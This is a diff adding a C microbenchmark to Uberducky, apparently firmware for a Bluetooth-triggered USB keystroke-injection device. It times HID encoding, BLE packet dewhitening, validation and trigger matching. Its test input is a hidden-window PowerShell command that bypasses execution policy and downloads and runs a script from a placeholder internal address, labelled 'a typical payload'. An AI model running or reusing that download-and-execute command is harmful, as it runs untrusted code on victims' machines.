@@ -0,0 +1,209 @@
+/*
+ * Copyright 2019 Mike Ryan
+ *
+ * This file is part of Uberducky and is released under the terms of the
+ * GPL version 2. Refer to COPYING for more information.
+ */
+
+// Microbenchmarks of the firmware's hot functions: HID encoding, packet
+// dewhitening and validation, and trigger matching. Each runs over a fixed
+// set of realistic inputs, once to warm up and then for a number of timed
+// rounds, and the median and best round are reported.
+
+// the packet functions are static, so build ble.c as part of this file
+#include "ble.c"
+
+#include "hid.h"
+#include "trigger.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+#define PACKETS 1024
+
+// a line of a typical payload
+static const char text[] =
+    "powershell -NoP -NonI -W Hidden -Exec Bypass \"IEX (New-Object "
+    "Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')\"\n";
+
+static uint8_t raw[PACKETS][BLE_PACKET_SIZE];     // as in the FIFO
+static uint8_t pkts[PACKETS][BLE_PACKET_SIZE];    // dewhitened
+
+static volatile unsigned sink;
+
+static uint64_t rng_state = 0x9e3779b97f4a7c15ULL;
+
+static uint32_t rng(void) {
+    rng_state ^= rng_state << 13;
+    rng_state ^= rng_state >> 7;
+    rng_state ^= rng_state << 17;
+    return rng_state >> 32;
+}
+
+static double now_ns(void) {
+    struct timespec ts;
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return ts.tv_sec * 1e9 + ts.tv_nsec;
+}
+
+// advertisements as ble_replay makes them, 1 in 16 a trigger, with a
+// quarter of the packets noise that fails the header or CRC check
+static void make_packets(void) {
+    unsigned i, j;
+
+    for (i = 0; i < PACKETS; ++i) {
+        uint8_t *p = pkts[i];
+        uint32_t crc;
+
+        for (j = 0; j < BLE_PACKET_SIZE; ++j)
+            p[j] = rng();
+        if (i % 4 == 0)
+            continue;
+
+        p[0] = 0x42;        // ADV_NONCONN_IND, random address
+        p[1] = 6 + 18;      // AdvA + one AD structure
+        p[8] = 17;          // AD length
+        p[9] = 0x07;        // complete list of 128-bit UUIDs
+        if (i % 16 == 1)
+            memcpy(&p[10], ble_magic, 16);
+        crc = ble_crc(p, 2 + p[1]);
+        p[2 + p[1]] = crc;
+        p[3 + p[1]] = crc >> 8;
+        p[4 + p[1]] = crc >> 16;
+    }
+
+    // whiten for channel 38
+    channel = 1;
+    for (i = 0; i < PACKETS; ++i) {
+        uint32_t *w = (uint32_t *)pkts[i];
+        for (j = 0; j < BLE_PACKET_SIZE / 4; ++j) {
+            uint32_t v = rbit(w[j] ^ ble_whitening[channel][j]);
+            raw[i][j * 4 + 0] = v >> 24;
+            raw[i][j * 4 + 1] = v >> 16;
+            raw[i][j * 4 + 2] = v >> 8;
+            raw[i][j * 4 + 3] = v;
+        }
+    }
+}
+
+// each returns the number of operations it did
+
+static unsigned bench_hid_encode(void) {
+    keystroke_t k = { K_CHAR, 0, 0 };
+    uint8_t r[8];
+    unsigned i;
+
+    for (i = 0; i < sizeof(text) - 1; ++i) {
+        k.chr = text[i];
+        hid_encode(&k, r);
+        sink += r[2];
+    }
+    return sizeof(text) - 1;
+}
+
+// one report per op, as the string state of the script engine does it
+static unsigned bench_hid_encode_string(void) {
+    uint8_t prev[8] = { 0, }, r[8];
+    unsigned pos = 0, len = sizeof(text) - 1, n, ops = 0;
+
+    while (pos < len) {
+        n = hid_encode_string((uint8_t *)text + pos, len - pos, prev, r);
+        memcpy(prev, r, 8);
+        pos += n;
+        sink += r[2];
+        ++ops;
+    }
+    return ops;
+}
+
+static unsigned bench_dewhiten(void) {
+    uint8_t p[BLE_PACKET_SIZE] __attribute__((aligned(4)));
+    unsigned i;
+
+    for (i = 0; i < PACKETS; ++i) {
+        memcpy(p, raw[i], BLE_PACKET_SIZE);
+        ble_dewhiten(p, BLE_PACKET_SIZE);
+        sink += p[0];
+    }
+    return PACKETS;
+}
+
+static unsigned bench_valid(void) {
+    unsigned i;
+
+    for (i = 0; i < PACKETS; ++i)
+        sink += ble_valid(pkts[i]);
+    return PACKETS;
+}
+
+static unsigned bench_trigger_match(void) {
+    unsigned i;
+
+    for (i = 0; i < PACKETS; ++i)
+        sink += trigger_match(pkts[i]);
+    return PACKETS;
+}
+
+static const struct {
+    const char *name;
+    unsigned (*fn)(void);
+} benches[] = {
+    { "hid_encode",         bench_hid_encode },
+    { "hid_encode_string",  bench_hid_encode_string },
+    { "ble_dewhiten",       bench_dewhiten },
+    { "ble_valid",          bench_valid },
+    { "trigger_match",      bench_trigger_match },
+};
+
+static int cmp_double(const void *a, const void *b) {
+    double x = *(const double *)a, y = *(const double *)b;
+    return x < y ? -1 : x > y;
+}
+
+int main(int argc, char **argv) {
+    unsigned rounds = 25, reps = 200, b, r, i, ops;
+    double *ns, t0;
+    int opt;
+
+    while ((opt = getopt(argc, argv, "r:n:h")) != -1) {
+        switch (opt) {
+            case 'r': rounds = strtoul(optarg, NULL, 0); break;
+            case 'n': reps = strtoul(optarg, NULL, 0); break;
+            default:
+                fprintf(stderr, "Usage: %s [-r rounds] [-n inputs_per_round]\n", argv[0]);
+                return 1;
+        }
+    }
+    if (rounds == 0 || reps == 0)
+        return 1;
+
+    trigger_init();
+    trigger_add(ble_magic, TRIGGER_SCRIPT, 0);
+    make_packets();
+    ns = malloc(rounds * sizeof(*ns));
+
+    printf("%-20s %12s %12s %14s\n", "function", "median ns/op", "best ns/op", "ops/s");
+
+    for (b = 0; b < sizeof(benches) / sizeof(benches[0]); ++b) {
+        // warm up caches and branch predictors
+        for (i = 0; i < reps; ++i)
+            benches[b].fn();
+
+        for (r = 0; r < rounds; ++r) {
+            ops = 0;
+            t0 = now_ns();
+            for (i = 0; i < reps; ++i)
+                ops += benches[b].fn();
+            ns[r] = (now_ns() - t0) / ops;
+        }
+
+        qsort(ns, rounds, sizeof(*ns), cmp_double);
+        printf("%-20s %12.2f %12.2f %14.0f\n", benches[b].name,
+               ns[rounds / 2], ns[0], 1e9 / ns[rounds / 2]);
+    }
+
+    return 0;
+}